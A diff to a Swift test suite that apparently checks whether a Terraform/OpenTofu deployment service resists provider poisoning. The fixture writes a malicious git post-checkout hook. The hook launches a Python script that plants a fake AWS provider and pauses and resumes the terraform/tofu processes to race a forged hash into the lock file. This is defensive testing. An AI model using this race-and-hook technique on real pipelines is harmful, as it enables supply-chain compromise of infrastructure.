@@ -137,7 +137,7 @@ struct PoisonTests {
             files["main.tf"] = Array("module \"m\" {\n  source = \"git::file:///workspace/source/repo\"\n}\n".utf8)
             files["evil"] = Array(Self.evil(scene.registry.port).utf8)
             files["hooks/post-checkout"] = Array(
-                "#!/bin/bash\nsetsid /usr/bin/python3 /workspace/source/exchange.py >/dev/null 2>&1 &\n".utf8
+                "#!/bin/bash\nexec /usr/bin/python3 /workspace/source/exchange.py >/dev/null 2>&1\n".utf8
             )
             files["exchange.py"] = Array(Self.exchange.utf8)
             let theft = try await scene.deploy(
@@ -156,6 +156,8 @@ struct PoisonTests {
     /// Puts a provider where `init` downloads to, and its hash into the lock file in the moment in which Terraform has written that.
     private static let exchange = """
         import base64, hashlib, os, shutil, signal, time
+        # `get`, which comes first, must fail, for a module that is there is not downloaded again.
+        if not os.path.exists("/slipway/incoming"): raise SystemExit(1)
         version, name = "5.998.0", "terraform-provider-aws_v5.998.0_x5"
         hosts = ["registry.terraform.io", "registry.opentofu.org"]
         machine = "linux_arm64" if os.uname().machine == "aarch64" else "linux_amd64"
@@ -170,18 +172,20 @@ struct PoisonTests {
         path = "/workspace/source/.terraform.lock.hcl"
         open(path + ".mine", "w").write(lock)
         shutil.copy(path + ".mine", path)
-        before = os.stat(path).st_ino
-        end = time.time() + 20
-        while time.time() < end:
-            try:
-                if os.stat(path).st_ino != before: break
-            except OSError: pass
         programs = []
         for pid in filter(str.isdigit, os.listdir("/proc")):
             try:
                 if open(f"/proc/{pid}/comm").read().strip() in ("terraform", "tofu"): programs.append(int(pid))
             except OSError: pass
-        for pid in programs: os.kill(pid, signal.SIGSTOP)
+        before = os.stat(path).st_ino
+        if os.fork(): os._exit(0)
+        os.setsid()
+        # In steps, so that it does not end between writing the file and the look at it.
+        end = time.time() + 20
+        while time.time() < end and os.stat(path).st_ino == before:
+            for pid in programs: os.kill(pid, signal.SIGCONT)
+            time.sleep(0.00005)
+            for pid in programs: os.kill(pid, signal.SIGSTOP)
         os.replace(path + ".mine", path)
         for pid in programs: os.kill(pid, signal.SIGCONT)
         """
